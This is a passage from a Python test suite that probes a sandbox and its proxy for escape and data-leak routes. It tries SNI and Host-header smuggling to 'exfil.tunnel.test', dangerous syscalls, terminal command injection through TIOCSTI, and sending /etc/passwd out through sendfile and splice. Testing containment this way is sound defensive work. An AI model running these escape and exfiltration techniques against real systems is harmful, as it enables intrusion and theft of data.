        judge(talk(PROXY, b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n%s\r\nConnection: close\r\n\r\n" % field, wait=0.5), "%r" % field)


@way
def hellos_with_more_names(a):
    def hello(*extensions):
        body = b"\3\3" + bytes(32) + b"\0" + b"\0\4\x13\x01\xc0\x2b" + b"\1\0"
        rest = b"".join(struct.pack("!HH", kind, len(data)) + data for kind, data in extensions)
        body += struct.pack("!H", len(rest)) + rest
        body = b"\1" + struct.pack("!I", len(body))[1:] + body
        return body

    def names(*hosts):
        listed = b"".join(b"\0" + struct.pack("!H", len(host)) + host for host in hosts)
        return (0, struct.pack("!H", len(listed)) + listed)

    def records(body, size):
        return b"".join(b"\x16\3\1" + struct.pack("!H", len(body[at:at + size])) + body[at:at + size] for at in range(0, len(body), size))
    ech = (0xFE0D, b"\0\0\1\0\1\x07\0\x20" + bytes(32) + b"\0\x20" + bytes(32))
    for extensions in ((names(b"allowed.test", b"exfil.tunnel.test"),), (names(b"exfil.tunnel.test", b"allowed.test"),), (names(b"allowed.test"), names(b"exfil.tunnel.test")), (names(b"allowed.test\0.tunnel.test"),), (names(b"exfil.tunnel.test."),), (names(b"EXFIL.TUNNEL.TEST"),), (names(a.encode()),), (names(b""),),
                       (names(b"tunnel.test"), ech), (ech,), (names(b"x" * 5000 + b".tunnel.test"),), (names(b"127.0.0.1"),), (names(b"localhost"),)):
        for size in (1, 40, 16000):
            for to in ((a, 443), (a, 8443)):
                talk(to, records(hello(*extensions), size), wait=0.1)


@way
def hosts_with_ports_of_their_own(a):
    for host in (b"allowed.test:22", b"allowed.test:6379", b"allowed.test:0", b"allowed.test:65536", b"allowed.test:http", b"[allowed.test]", b"allowed.test:80@%s" % a.encode(), b"%s:80" % a.encode(), b"", b"allowed.test, forbidden.test", b"forbidden.test allowed.test"):
        for to in ((a, 80), (a, 8080)):
            judge(talk(to, b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % host, wait=0.3), "Host %r" % host)
            judge(talk(to, b"GET http://forbidden.test/ HTTP/1.1\r\nHost: %s\r\n\r\n" % host, wait=0.3), "Host %r" % host)


@way
def keys_and_helpers_of_the_kernels(a):
    """The kernel has programs of the machine's do some things, such as asking for names."""
    for kind, text in ((b"dns_resolver", b"key.tunnel.test"), (b"dns_resolver", b"a:key.tunnel.test"), (b"cifs.spnego", b"ver=2;host=key.tunnel.test;ip4=%s" % a.encode()), (b"user", b"debug:x"), (b"id_resolver", b"uid:tunnel"), (b"asymmetric", b"id:00")):
        if libc.syscall(249, kind, text, b"", -2) > 0:
            leak("request_key %r" % kind)
    # kexec_load, init_module, finit_module, pivot_root, kexec_file_load.
    for call in (246, 175, 313, 155, 320):
        if libc.syscall(call, 0, 0, 0, 0, 0) == 0:
            leak("call %d" % call)
    handle = struct.pack("=Ii", 8, 1) + struct.pack("=II", 2, 0)
    if libc.syscall(304, -100, handle, 0) >= 0:
        leak("open_by_handle_at")
    attribute = struct.pack("=IIII", 15, 4, 4, 1) + bytes(112)
    if libc.syscall(321, 0, attribute, 128) >= 0:
        leak("a map of sockets")


@way
def what_the_kernel_lets_be_written(a):
    for top in ("/proc/sys", "/sys/fs/cgroup", "/sys/class/net", "/sys/kernel", "/sys/module", "/sys/devices/virtual/net"):
        for directory, _, files in os.walk(top):
            for name in files:
                path = directory + "/" + name
                # Which process is the next takes a capability to say; the file's mode does not tell.
                if name != "ns_last_pid" and os.access(path, os.W_OK) and quiet(os.open, path, os.O_WRONLY) is not None:
                    leak("may write " + path)


@way
def signals_by_others(a):
    """The kernel sends on behalf of whoever asked for it."""
    for process in others():
        for kind in (1, 0):
            s = socket.socketpair()[0] if kind else socket.socket()
            for command, value in ((10, signal.SIGKILL), (8, process), (15, struct.pack("=ii", 1, process))):
                quiet(lambda: __import__("fcntl").fcntl(s, command, value))
            quiet(lambda: __import__("fcntl").ioctl(s, 0x8901, struct.pack("=i", process)))
        descriptor = libc.syscall(434, process, 0)
        if descriptor >= 0 and libc.syscall(424, descriptor, 18, None, 0) == 0:
            leak("signal to %d" % process)
        for resource in (7, 9):
            if libc.syscall(302, process, resource, struct.pack("=QQ", 1, 1), 0) == 0:
                leak("limits of %d" % process)
        if libc.syscall(203, process, 8, struct.pack("=Q", 1)) == 0 or libc.syscall(144, process, 5, struct.pack("=i", 0)) == 0:
            leak("the processor of %d" % process)


@way
def terminals_and_consoles(a):
    for path in glob.glob("/dev/pts/*") + ["/dev/tty", "/dev/console", "/dev/tty0", "/dev/ttyS0", "/dev/vcs"] + ["/proc/1/fd/%d" % n for n in range(3)]:
        opened = quiet(os.open, path, os.O_RDWR | os.O_NOCTTY)
        if opened is not None:
            for byte in b"id\n":
                if libc.ioctl(opened, 0x5412, bytes([byte])) == 0:
                    leak("types at " + path)
                    break
    for path in glob.glob("/dev/shm/*") + glob.glob("/dev/mqueue/*"):
        status = quiet(os.stat, path)
        if status and status.st_uid != os.getuid() and os.access(path, os.W_OK):
            leak("shares " + path)


@way
def descriptors_that_were_left(a):
    """A socket that root or the proxy made counts as theirs, whoever has it."""
    own = set()
    for name in ("tcp", "udp", "tcp6", "udp6", "raw", "raw6", "icmp", "packet", "netlink"):
        for line in (quiet(open, "/proc/net/" + name) or []):
            own.update(word for word in line.split() if word.isdigit() and len(word) > 3)
    for process in os.listdir("/proc"):
        status = quiet(lambda: open("/proc/%s/status" % process).read()) if process.isdigit() else None
        if not status or "\nPPid:\t1\n" not in status or not ("\nUid:\t%d\t" % os.getuid()) in status:
            continue
        for name in quiet(os.listdir, "/proc/%s/fd" % process) or []:
            target = quiet(os.readlink, "/proc/%s/fd/%s" % (process, name)) or ""
            if target.startswith("socket:[") and target[8:-1] in own:
                leak("the agent has %s" % target)


@way
def sent_by_the_kernel(a):
    """sendfile, splice, vmsplice and zero-copy go by other functions of the kernel's than send."""
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        def attempt():
            with socket.socket(socket.AF_INET, kind) as s, open("/etc/passwd", "rb") as file:
                s.settimeout(0.5)
                quiet(s.connect, (a, 99))
                quiet(os.sendfile, s.fileno(), file.fileno(), 0, 99)
                ends = os.pipe()
                os.write(ends[1], b"exfil")
                libc.syscall(275, ends[0], None, s.fileno(), None, ctypes.c_size_t(5), 0)
                quiet(s.setsockopt, 1, 60, 1)
                quiet(s.send, b"exfil", 0x4000000)
                libc.syscall(307, s.fileno(), ctypes.create_string_buffer(64), 0, 0)
        quiet(attempt)
    s = socket.socket()
    s.settimeout(0.5)
    quiet(s.setsockopt, 6, 30, 1)
    quiet(s.connect, (a, 443))
    quiet(s.send, b"exfil")
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) if quiet(socket.socket, socket.AF_INET, socket.SOCK_STREAM, 262) else socket.socket()
    s.settimeout(0.5)
    quiet(s.sendto, b"exfil", 0x20000000, (a, 443))


@way
def everything_that_the_proxy_can_hold(a):
    """With as many connections as somebody may have, it must not let anything by."""
    held = []
    for number in range(600):
        s = socket.socket()
        s.setblocking(False)
        quiet(s.connect, (a, 443) if number % 3 else PROXY)
        held.append(s)
    time.sleep(0.5)
    for s in held[::2]:
        quiet(s.send, b"\x16\3\1")
    for port in (22, 99, 443):
        send((a, port)), send((a, port), socket.SOCK_DGRAM)
    send(RESOLVER, socket.SOCK_DGRAM, data=question("full.tunnel.test"))


main(101)
